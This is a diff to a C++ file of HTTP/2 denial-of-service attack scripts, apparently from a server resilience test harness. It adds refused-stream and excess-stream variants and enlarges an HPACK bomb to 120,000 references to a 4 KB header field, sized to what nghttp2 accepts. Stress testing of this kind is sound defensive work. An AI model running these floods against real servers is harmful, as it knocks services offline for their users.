@@ -21,7 +21,7 @@ class Frames final : public Http2Script {
  public:
   Frames(http2::Type type, uint8_t flags, uint32_t stream, const std::string& payload,
          bool opens = false)
-      : opens_(opens) {
+      : Http2Script(http2::window_default), opens_(opens) {
     while (batch_.size() < batch_bytes) append_frame(batch_, type, flags, stream, payload);
   }
 
@@ -97,8 +97,14 @@ class Continuation final : public Http2Script {
   bool has_begun_ = false;
 };
 
-// All streams are taken; more are opened nevertheless.
+// All streams are taken; more are opened nevertheless, which are refused as long as it might not
+// know better (RFC 9113 section 5.1.2); `acknowledges`: it does.
 class RefusedStreams final : public Http2Script {
+ public:
+  explicit RefusedStreams(bool acknowledges) : acknowledges_(acknowledges) {}
+
+ private:
+  bool acknowledges() const override { return acknowledges_; }
   void go_on(std::string& out) override {
     while (held_ < streams_max) {
       begin(out, post_, 0);
@@ -109,14 +115,16 @@ class RefusedStreams final : public Http2Script {
 
   const std::string post_ = http2::grpc_block(http2::health_check);
   const std::string get_ = request_block("GET", app_path);
+  const bool acknowledges_;
   size_t held_ = 0;
 };
 
-// One large field in the table, and heads of nothing but references to it.
+// One large field in the table, and heads of nothing but references to it, as long as nghttp2 takes
+// them (8 CONTINUATION frames).
 class HpackBomb final : public Http2Script {
   static constexpr size_t value_bytes = 3'900;
-  static constexpr size_t references = 15'000;
-  static constexpr size_t at_once = 8;
+  static constexpr size_t references = 120'000;
+  static constexpr size_t at_once = 4;
 
   void go_on(std::string& out) override {
     if (!has_begun_) {
@@ -167,11 +175,13 @@ std::vector<Attack> http2_attacks() {
        make<Frames>(http2::data, uint8_t{0}, 1u, std::string(), true)},
       {"window-update", "WINDOW_UPDATE frames", http2,
        make<Frames>(http2::window_update, uint8_t{0}, 0u, increment)},
-      {"refused-streams", "more streams than may be open", http2, make<RefusedStreams>()},
+      {"refused-streams", "more streams than may be open, unaware of the limit", http2,
+       make<RefusedStreams>(false)},
+      {"excess-streams", "more streams than may be open", http2, make<RefusedStreams>(true)},
       {"unread-replies", "requests for 100 KB, never read from the socket", http2,
        make<Untaken>(false, http2::window_max)},
       {"closed-window", "requests for 100 KB, and a window of 0", http2, make<Untaken>(true, 0u)},
-      {"hpack-bomb", "heads that refer 15,000 times to a field of 4 KB", http2, make<HpackBomb>()},
+      {"hpack-bomb", "heads that refer 120,000 times to a field of 4 KB", http2, make<HpackBomb>()},
   };
 }
 
